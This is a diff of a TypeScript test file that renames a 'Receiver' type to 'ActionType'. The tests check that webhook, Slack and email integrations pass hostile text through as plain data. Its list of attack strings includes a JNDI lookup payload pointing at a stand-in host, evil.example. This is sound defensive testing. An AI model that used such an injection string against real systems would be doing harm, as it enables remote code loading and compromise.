@@ -1,11 +1,11 @@
-import type { ActionEvent, Receiver } from '../../../src/server/actions/types.d.ts';
+import type { ActionEvent, ActionType } from '../../../src/server/actions/types.d.ts';
 import { anEvent, NASTY } from '../../support/action-events.ts';
 import { requestsOf, settingsFor } from '../../support/action-settings.ts';
 import { verifyMail } from '../../support/verify/email.ts';
 import { verify } from '../../support/verify/index.ts';
 import { MAILING, onTheWire, SENDING, TELLING } from './targets.ts';
 
-/** Texts that have broken receivers of others, each in the place where data stands. */
+/** Texts that have broken integrations of others, each in the place where data stands. */
 const ATTACKS: readonly (readonly [what: string, text: string])[] = [
   ['all at once', NASTY],
   ['a look-up', '${jndi:ldap://evil.example/a}'],
@@ -42,7 +42,7 @@ const MANNERS: Readonly<Record<string, readonly Record<string, string | boolean>
 };
 
 /** Everything that a type can be told of, with a text wherever data stands. */
-function eventsWith(text: string, kinds: Receiver['events']): ActionEvent[] {
+function eventsWith(text: string, kinds: ActionType['events']): ActionEvent[] {
   const base = anEvent({}, { name: text, description: text, resolution: text, [`x${text}`]: text });
   const insight = {
     ...base.insight!,
@@ -86,16 +86,16 @@ function frozen<T>(value: T): T {
   return value;
 }
 
-describe.each(SENDING)('%s', (_label, receiver) => {
-  const manners = [{}, ...(MANNERS[receiver.type] ?? [])];
+describe.each(SENDING)('%s', (_label, actionType) => {
+  const manners = [{}, ...(MANNERS[actionType.type] ?? [])];
 
   test.each(ATTACKS)('is sent only what its target takes, and data as data: %s', (_what, text) => {
     for (const manner of manners) {
-      const settings = settingsFor(receiver.type, manner);
-      for (const event of eventsWith(text, receiver.events)) {
+      const settings = settingsFor(actionType.type, manner);
+      for (const event of eventsWith(text, actionType.events)) {
         for (const reduction of [0, 1, 2, 3]) {
-          for (const request of requestsOf(receiver, event, settings, reduction)) {
-            const complaints = verify(receiver.type, onTheWire(request));
+          for (const request of requestsOf(actionType, event, settings, reduction)) {
+            const complaints = verify(actionType.type, onTheWire(request));
             expect([manner, event.kind, reduction, complaints]).toEqual([manner, event.kind, reduction, []]);
           }
         }
@@ -104,28 +104,28 @@ describe.each(SENDING)('%s', (_label, receiver) => {
   });
 
   test('is sent the same for the same event, which is not changed by it', () => {
-    for (const event of [ordinary(), ...eventsWith(NASTY, receiver.events)]) {
+    for (const event of [ordinary(), ...eventsWith(NASTY, actionType.events)]) {
       const before = JSON.stringify(event);
-      const [first, second] = [1, 2].map(() => requestsOf(receiver, frozen(event)));
+      const [first, second] = [1, 2].map(() => requestsOf(actionType, frozen(event)));
       expect(second).toEqual(first);
       expect(JSON.stringify(event)).toBe(before);
     }
   });
 });
 
-describe.each(MAILING)('%s', (_label, receiver) => {
+describe.each(MAILING)('%s', (_label, actionType) => {
   test.each(ATTACKS)('is told by a mail that holds data as data: %s', (_what, text) => {
-    for (const event of eventsWith(text, receiver.events)) {
+    for (const event of eventsWith(text, actionType.events)) {
       const told = frozen({ ...event, tester: 'kim@example.com' });
-      const mail = receiver.mail!(told, settingsFor(receiver.type));
+      const mail = actionType.mail!(told, settingsFor(actionType.type));
       expect([event.kind, verifyMail(mail)]).toEqual([event.kind, []]);
-      expect(receiver.mail!(told, settingsFor(receiver.type))).toEqual(mail);
+      expect(actionType.mail!(told, settingsFor(actionType.type))).toEqual(mail);
     }
   });
 });
 
-describe.each(TELLING)('what verifies requests to %s', (_label, { type, ...receiver }) => {
-  const good = onTheWire(requestsOf({ type, ...receiver }, ordinary())[0]!);
+describe.each(TELLING)('what verifies requests to %s', (_label, { type, ...actionType }) => {
+  const good = onTheWire(requestsOf({ type, ...actionType }, ordinary())[0]!);
   const without = (name: string) =>
     Object.fromEntries(Object.entries(good.headers).filter(([each]) => each !== name));
 
@@ -155,11 +155,11 @@ const WRONG: Readonly<Record<string, (body: string) => string>> = {
   slack_webhook: (body) => body.replace('```', '``'),
 };
 
-test.each(TELLING)('what verifies requests to %s knows its target', (_label, receiver) => {
-  const good = onTheWire(requestsOf(receiver, ordinary())[0]!);
-  const body = WRONG[receiver.type]!(good.body);
+test.each(TELLING)('what verifies requests to %s knows its target', (_label, actionType) => {
+  const good = onTheWire(requestsOf(actionType, ordinary())[0]!);
+  const body = WRONG[actionType.type]!(good.body);
   expect(body).not.toBe(good.body);
-  expect(verify(receiver.type, { ...good, body })).not.toEqual([]);
+  expect(verify(actionType.type, { ...good, body })).not.toEqual([]);
 });
 
 test('what verifies mails knows what a mail server and a reader take', () => {
